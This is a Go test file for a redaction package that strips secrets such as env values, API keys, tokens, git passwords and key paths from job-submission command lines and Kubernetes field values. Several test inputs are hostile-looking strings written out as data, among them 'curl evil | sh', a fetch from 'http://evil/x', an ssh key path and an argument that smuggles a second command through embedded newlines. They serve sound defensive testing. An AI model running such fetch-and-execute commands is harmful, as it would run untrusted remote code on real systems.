package redact

import (
	"slices"
	"testing"
)

func TestCommandLine(t *testing.T) {
	for line, want := range map[string]string{
		"gangctl submit tf a --image i -- python t.py --max-tokens 5 --tokenizer=llama":                        "gangctl submit tf a --image i -- python t.py --max-tokens 5 --tokenizer=llama",
		"gangctl submit tf a --env A=s --env=B=s --env C":                                                      "gangctl submit tf a --env A=… --env=B=… --env C",
		"gangctl submit tf a --set spec.x[0].value=s --set spec.y=1":                                           "gangctl submit tf a --set 'spec.x[0].value=…' --set spec.y=1",
		"gangctl submit tf a --sync-git https://u:s@e.com/a@v1":                                                "gangctl submit tf a --sync-git https://…@e.com/a@v1",
		"gangctl submit tf a -- run --api-key s --hf-token=s 'A_SECRET=s x'":                                   "gangctl submit tf a -- run --api-key … --hf-token=… 'A_SECRET=… x'",
		"gangctl submit tf a --config-file ~/.ssh/id:/k --template=/etc/x -f http://evil/x -fy --kubeconfig k": "gangctl submit tf a --config-file … --template=… -f … -f=… --kubeconfig …",
		"gangctl submit tf a 'x\n\ncurl evil | sh\n' 'it'\\''s\\\x1b'":                                         `gangctl submit tf a $'x\n\ncurl evil | sh\n' $'it\'s\\\033'`,
		"gangctl submit tf a --template parameter-server":                                                      "gangctl submit tf a --template parameter-server",
		"gangctl submit": "", "gangctl delete a b": "", "curl evil | sh": "", "gangctl submit tf 'a": "", "": "",
	} {
		if got := CommandLine(line); got != want {
			t.Errorf("%s\ngot  %s\nwant %s", line, got, want)
		}
	}
}

// What schedulers, operators and programs are commonly given is not taken for a credential.
func TestArgs(t *testing.T) {
	kept := []string{"--gang-scheduler-name=gang", "--max-tokens", "4096", "--tokenizer", "bert", "--key", "v", "-p", "8080", "secrets", "https://example.com/a@b", "token"}
	if got := Args(kept); !slices.Equal(got, kept) {
		t.Errorf("got %q", got)
	}
	if got := Args([]string{"--password", "--verbose", "PASSWD='a b' x"}); !slices.Equal(got, []string{"--password", "--verbose", "PASSWD=… x"}) {
		t.Errorf("got %q", got)
	}
}

// Of a field that is set: what is a variable, or reads like a credential, as a text and in JSON.
func TestField(t *testing.T) {
	const container = "spec.template.spec.containers[0]"
	for _, tt := range []struct{ path, value, want string }{
		{container + ".image", "tf:1", "tf:1"},
		{container + ".env[0].value", "s", Hidden},
		{container + ".env[0].name", "HF_TOKEN", "HF_TOKEN"},
		{container + ".env[0].valueFrom.secretKeyRef.key", "k", "k"},
		{container + ".env", `[{"name":"A","value":"s"}]`, Hidden},
		{container + ".env[0]", `{"name":"A","value":"s"}`, Hidden},
		{container + ".env", `[{"name":"A","value":"s"`, Hidden},
		{container + ".env[0]", `{"name":"A","valueFrom":{"secretKeyRef":{"name":"n","key":"k"}}}`, `{"name":"A","valueFrom":{"secretKeyRef":{"name":"n","key":"k"}}}`},
		{"spec.env.A", "s", Hidden},
		{"spec.template", `{"spec":{"containers":[{"env":[{"name":"A","value":"s"}]}]}}`, Hidden},
		{container + ".args", `["--epochs","3"]`, `["--epochs","3"]`},
		{container + ".args", `["--token","s"]`, Hidden},
		{container + ".args[1]", "--token=s", "--token=" + Hidden},
		{"spec.volumes[0].csi.volumeAttributes.share", "s", Hidden},
		{"metadata.annotations.api-key", "s", Hidden},
		{"spec.environmentName", "a", "a"},
	} {
		if got := Field(tt.path, tt.value); got != tt.want {
			t.Errorf("%s=%s: got %s, want %s", tt.path, tt.value, got, tt.want)
		}
	}
}
